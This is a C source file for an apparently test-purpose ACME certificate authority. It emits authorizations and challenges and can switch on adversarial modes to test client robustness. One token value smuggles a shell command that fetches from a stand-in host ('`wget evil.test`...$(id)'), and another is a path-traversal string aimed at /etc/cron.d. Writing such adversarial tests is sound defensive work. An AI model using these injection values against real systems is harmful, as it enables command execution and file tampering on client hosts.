/* ca_authz.c - authorizations and challenges (RFC 8555 7.1.4, 7.5, 8) */
#include <stdio.h>
#include <string.h>

#include "acme_json.h"
#include "ca.h"

static const char *authz_token(struct ca *ca, const struct ca_authz *z, char *room)
{
    if (evil_does(&ca->evil, EVIL_CHALL_PATH))
        return "../../../../etc/cron.d/../../../tmp/xxxx";
    if (evil_does(&ca->evil, EVIL_CHALL_SHELL))
        return "`wget evil.test`-0123456789abcdefghij$(id)";
    if (evil_does(&ca->evil, EVIL_CHALL_SHORT))
        return "abc";
    if (evil_does(&ca->evil, EVIL_CHALL_LONG)) {
        memset(room, 'T', 200);
        room[200] = '\0';
        return room;
    }
    return z->token;
}

/* The types that it offers for a name. */
static uint8_t authz_offers(struct ca *ca, struct ca_authz *z)
{
    if (z->offers == 0 && ca->offers != NULL)
        z->offers = ca->offers(ca->offers_ctx, &z->blind);
    else if (z->offers == 0)
        z->offers = ca->txt == NULL ? ACME_CHALLENGE_HTTP01 : ACME_CHALLENGE_DNS01;
    if (z->wildcard)
        z->offers = ACME_CHALLENGE_DNS01;
    return z->offers;
}

uint8_t ca_respond_type(const struct ca_request *q)
{
    const char *type = strrchr(q->path, '/') + 1;

    return strcmp(type, "http-01") == 0  ? ACME_CHALLENGE_HTTP01
           : strcmp(type, "dns-01") == 0 ? ACME_CHALLENGE_DNS01
                                         : ACME_CHALLENGE_NONE;
}

static void put_challenge(struct ca *ca, const struct ca_order *o, unsigned which, uint8_t kind,
                          struct acme_buf *b)
{
    const struct ca_authz *z = &o->authz[which];
    const char *type = acme_challenge_type_name((enum acme_challenge_type)kind);
    uint8_t status = z->type == 0 || z->type == kind ? z->challenge : ACME_STATUS_PENDING;
    char text[700], room[201];

    snprintf(text, sizeof text,
             "{\"type\":\"%s\",\"status\":\"%s\",\"url\":\"%s/chall/%016llx/%u/%s\","
             "\"token\":\"%s\"",
             type, acme_status_name((enum acme_status)status), ca->base,
             (unsigned long long)o->number, which, type, authz_token(ca, z, room));
    acme_buf_text(b, text);
    if (status == ACME_STATUS_INVALID)
        acme_buf_text(b, ",\"error\":{\"type\":\"urn:ietf:params:acme:error:unauthorized\","
                         "\"detail\":\"not what we expected\"}");
    acme_buf_char(b, '}');
}

static const char *authz_status(struct ca *ca, struct ca_authz *z)
{
    if (evil_does(&ca->evil, EVIL_AUTHZ_DEAD))
        z->status = ACME_STATUS_DEACTIVATED;
    if (evil_does(&ca->evil, EVIL_AUTHZ_EXPIRED))
        z->status = ACME_STATUS_EXPIRED;
    return acme_status_name((enum acme_status)z->status);
}

void ca_put_authz(struct ca *ca, struct ca_order *o, unsigned which, struct ca_reply *r)
{
    struct ca_authz *z = &o->authz[which];
    struct acme_buf *b = &r->body;
    const char *name = z->name;

    if (evil_does(&ca->evil, EVIL_AUTHZ_FOREIGN))
        name = "somebody-else.test";
    acme_buf_text(b, "{\"identifier\":{\"type\":\"dns\",\"value\":\"");
    acme_buf_text(b, name);
    acme_buf_text(b, "\"},\"status\":\"");
    acme_buf_text(b, authz_status(ca, z));
    acme_buf_text(b, "\",\"challenges\":[");
    if (!evil_does(&ca->evil, EVIL_AUTHZ_NO_CHALLENGE)) {
        if (evil_does(&ca->evil, EVIL_AUTHZ_STRANGERS))
            acme_buf_text(b,
                          "{\"type\":\"dns-persist-01\",\"status\":\"pending\",\"url\":\"" CA_BASE
                          "/x\",\"issuer-domain-names\":[\"ca.test\"]},"
                          "{\"type\":\"quantum-02\",\"url\":7},");
        for (uint8_t type = 1, offers = authz_offers(ca, z); offers != 0;
             type = (uint8_t)(type << 1)) {
            if ((offers & type) == 0)
                continue;
            put_challenge(ca, o, which, type, b);
            offers &= (uint8_t)~type;
            acme_buf_text(b, offers != 0 ? "," : "");
        }
    }
    acme_buf_text(b, z->wildcard ? "],\"wildcard\":true}" : "]}");
}

void ca_respond(struct ca *ca, struct ca_order *o, unsigned which, const struct ca_request *q,
                struct ca_reply *r)
{
    if (!acme_json_is_object(q->payload) || acme_json_count(q->payload) != 0)
        (void)ca_break(ca, "a challenge is answered with {} (7.5.1)");
    if (ca->before != NULL)
        ca->before(ca->before_ctx, ca, "respond", q, o);
    if (o->status != ACME_STATUS_PENDING || o->authz[which].status != ACME_STATUS_PENDING ||
        evil_does(&ca->evil, EVIL_CHALL_REFUSED)) {
        ca_problem(r, 400, "malformed", "authorization is not pending");
        return;
    }
    if (o->authz[which].validate_at == 0)
        o->authz[which].type = ca_respond_type(q);
    if ((o->authz[which].type & o->authz[which].offers) == 0)
        (void)ca_break(ca, "a challenge that was not offered");
    ca_va_start(ca, (uint32_t)(o - ca->orders), (uint8_t)which);
    r->acted = true;
    put_challenge(ca, o, which, o->authz[which].type, &r->body);
}
